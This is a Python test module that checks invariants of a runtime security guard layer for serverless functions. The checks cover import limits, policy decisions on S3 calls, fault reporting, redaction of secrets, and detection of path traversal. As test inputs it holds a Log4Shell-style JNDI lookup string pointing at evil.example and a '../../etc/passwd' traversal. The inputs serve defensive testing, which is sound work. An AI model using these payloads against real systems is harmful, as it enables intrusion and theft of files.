"""The invariants of ARCHITECTURE.md, each as a check that a layer passes or not.

A check raises AssertionError where its invariant is broken, and `NotArmed` where it cannot tell.
"""

from __future__ import annotations

import ast
import importlib.machinery
import importlib.util
import json
import sys
from collections.abc import Callable
from itertools import pairwise
from pathlib import Path
from types import ModuleType
from typing import Any

from broken import GUARD
from protected import Running, Seen, last_words, policy

from hauberk.learn import believe, observe

RUNTIME = "/var/runtime/"
ATTACK = "${jndi:ldap://evil.example/a}"


class NotArmed(Exception):
    """The guard did not even start, so that nothing can be said of its invariants."""


class Bench:
    """Starts functions with the layer under test, and without it."""

    def __init__(self, start: Callable[..., Running], layer: Path) -> None:
        self._start = start
        self.layer = layer

    def plain(self) -> Running:
        return self._start("invariants", None)

    def guarded(self, **settings: str) -> Running:
        variables = {"SHOP_SECRET": "q8Zr-7Lm2-xT4v"}
        chosen = settings or {"HAUBERK_MODE": "detect"}
        running = self._start("invariants", chosen, own_layer=self.layer, environment=variables)
        first = running.invoke({"act": "answer", "value": "armed"})
        if not any(one["state"] == "armed" for one in first.statuses):
            raise NotArmed(first.answer.log)
        running.first = first
        return running

    def native(self) -> ModuleType:
        file = str(self.layer / "hauberk/lib/hauberk/_native.abi3.so")
        loader = importlib.machinery.ExtensionFileLoader("_native", file)
        spec = importlib.util.spec_from_file_location("_native", file, loader=loader)
        assert spec is not None
        module = importlib.util.module_from_spec(spec)
        loader.exec_module(module)
        return module

    def sources(self) -> dict[str, ast.Module]:
        folder = self.layer / GUARD
        return {file.name: ast.parse(file.read_text()) for file in folder.glob("*.py")}


def act(running: Running, name: str, /, **fields: Any) -> Seen:
    return running.invoke({"act": name, **fields})


def imports_the_standard_library_and_its_own(bench: Bench) -> None:
    running = bench.guarded()
    for name in ("query", "look_up"):
        act(running, name)
    plain = bench.plain()
    for name in ("query", "look_up"):
        act(plain, name)
    for below in (RUNTIME, "site-packages", "/var/task/"):
        expected = act(plain, "loaded", below=below).value
        assert act(running, "loaded", below=below).value == expected
    for name, tree in bench.sources().items():
        for module in _imported(tree):
            top = module.split(".")[0]
            assert top in sys.stdlib_module_names or module.startswith(
                ("hauberk._native", "hauberk.guard", "hauberk.model")
            ), f"{name} imports {module}"


def _imported(tree: ast.Module) -> list[str]:
    found = []
    for node in ast.walk(tree):
        if isinstance(node, ast.Import):
            found += [alias.name for alias in node.names]
        elif isinstance(node, ast.ImportFrom):
            found += [f"{node.module}.{alias.name}" for alias in node.names]
    return found


def opens_no_connection(bench: Bench) -> None:
    assert act(bench.guarded(), "sockets").value == act(bench.plain(), "sockets").value


ALLOWED = [{"operation": "s3:GetObject", "target": "arn:aws:s3:::shop/open/*"}]
CALLS = [
    # method        operation         key
    ("get_object", "s3:GetObject", "open/a"),
    ("get_object", "s3:GetObject", "closed/a"),
    ("delete_object", "s3:DeleteObject", "open/a"),
]


def one_judge_decides(bench: Bench) -> None:
    """What the guard does in the function is what the core's judge says outside it."""
    variable = policy(allowlist={"api": ALLOWED})
    native = bench.native()
    judge = native.Judge(native.open_policy(variable)[0])
    running = bench.guarded(HAUBERK_POLICY=variable)
    verdicts = []
    for method, operation, key in CALLS:
        outcome = act(running, "call_aws", method=method, key=key).value
        action, _ = judge.judge("api", operation, f"arn:aws:s3:::shop/{key}")
        verdicts.append(action)
        assert outcome == {"allow": "let through", "block": "AccessDenied"}[action]
    assert set(verdicts) == {"allow", "block"}


def only_the_fence_swallows(bench: Bench) -> None:
    for name, tree in bench.sources().items():
        caught = [node.type for node in ast.walk(tree) if isinstance(node, ast.ExceptHandler)]
        names = {ast.unparse(kind) if kind is not None else "everything" for kind in caught}
        assert not names & {"everything", "Exception", "BaseException"}, name
        swallowing = [node for node in ast.walk(tree) if _swallows(node)]
        assert not swallowing or name == "fence.py", name


def _swallows(node: ast.AST) -> bool:
    if isinstance(node, ast.FunctionDef):
        return node.name == "__exit__"
    return isinstance(node, ast.Attribute) and node.attr == "suppress"


def faults_are_counted_and_shown(bench: Bench) -> None:
    """For a layer with faulty parts: the function goes on, and each fault is told with a count."""
    running = bench.guarded()
    counts = []
    for name in ("query", "request", "answer"):
        seen = act(running, name, value="goes on")
        assert seen.answer.error is None, seen.answer.log
        counts += [one["faults"] for one in seen.statuses if one["state"] == "fault"]
        assert all(one["level"] == "FATAL" for one in seen.statuses)
    shown = [one for one in running.first.statuses if one["state"] == "fault"]
    assert counts[:1] == [1 + len(shown)]
    assert all(before < after for before, after in pairwise(counts))
    assert len(shown) + len(counts) >= 2


SINKS = {
    *("process", "file", "host", "address", "code"),
    *("event.awslambdaric", "host.answers", "api.botocore"),
    *("sql.sqlite3", "sql.psycopg", "sql.psycopg2", "sql.pymysql"),
    *("process.fork_exec", "process.native", "address.native", "file.dir_fd"),
    *("events", "requests.plain", "requests.tls", "requests.files"),
    *("children", "system-calls"),
}


def what_is_not_armed_is_told(bench: Bench) -> None:
    running = bench.guarded()
    (status,) = running.first.statuses
    assert set(status["coverage"]) >= SINKS
    blind = {name for name, state in status["coverage"].items() if state.startswith("gap: ")}
    assert blind == {"system-calls"}
    seen = act(running, "import_it", name="pymysql.connections")
    assert seen.value == "pymysql", "the function's own module, without what the sink looks for"
    told = [one for one in seen.statuses if "pymysql.connections" in one["message"]]
    assert [one["level"] for one in told] == ["FATAL"]


def answers_are_as_without(bench: Bench) -> None:
    running, plain = bench.guarded(), bench.plain()
    act(plain, "answer", value=None)
    for event in (
        {"act": "answer", "value": {"b": [1.5, None, "ä"], "a": "x"}},
        {"act": "answer", "value": "\ud800"},
        {"act": "answer"},
        {"act": "query", "statement": "SELECT FROM"},
        {"act": "failing_query"},
    ):
        body = json.dumps(event).encode()
        seen, expected = (one.invoke_raw(body, "of-both") for one in (running, plain))
        assert seen.payload == expected.payload
        assert last_words(seen.own_log) == last_words(expected.own_log)


def a_clean_warm_invocation_is_silent(bench: Bench) -> None:
    running = bench.guarded()
    act(running, "query")
    for number in range(20):
        seen = act(running, "query", note=f"order {number}: blue shoes, size 38")
        assert seen.records == []
        assert seen.own_log == ""


PASSWORD, BYSTANDER = "hunter2horse", "a bystander's words, far from the match"
KEY_ID = "AKIAIOSFODNN7EXAMPLE"


def values_leave_only_redacted(bench: Bench) -> None:
    running = bench.guarded()
    secret = "q8Zr-7Lm2-xT4v"
    text = f"password={PASSWORD}&token={KEY_ID}&s={secret}&q={ATTACK}" + " " * 200 + BYSTANDER
    found = act(running, "run", text=text, other=BYSTANDER, more="x" * 5000)
    assert found.detections, found.answer.log
    told = "\n".join(found.record_lines)
    for value in (PASSWORD, KEY_ID, secret, "x" * 300):
        assert value not in told, value
    for record in found.detections:
        assert len(record["input"]["excerpt"]) < 300
        assert BYSTANDER not in json.dumps(record)
    clean = act(running, "run", text=f"nothing but {BYSTANDER}")
    assert BYSTANDER not in "\n".join(
        line for line in clean.record_lines if '"activity"' not in line
    )


def an_attacked_invocation_teaches_nothing(bench: Bench) -> None:
    off = policy(mode="detect", protections={"firewall": "off"})
    running = bench.guarded(HAUBERK_POLICY=off)
    clean = act(running, "opened", name="clean", many=2)
    attacked = act(
        running, "opened", name="shared", many=2, climb="../../../../../../../../etc/passwd"
    )
    assert [one["detector"] for one in attacked.detections] == ["path-traversal"]
    assert _learned(running, clean, attacked) == {"clean0", "clean1"}
    again = act(running, "opened", name="shared", many=2)
    all_names = {"clean0", "clean1", "shared0", "shared1"}
    assert _learned(running, clean, attacked, again) == all_names


def _learned(running: Running, *invocations: Seen) -> set[str]:
    log = "".join(one.answer.log for one in (running.first, *invocations))
    found = believe(observe(log.encode().split(b"\n"))).activities("function")
    below = f"{running.world}/"
    return {one.target.removeprefix(below) for one in found if one.target.startswith(below)}
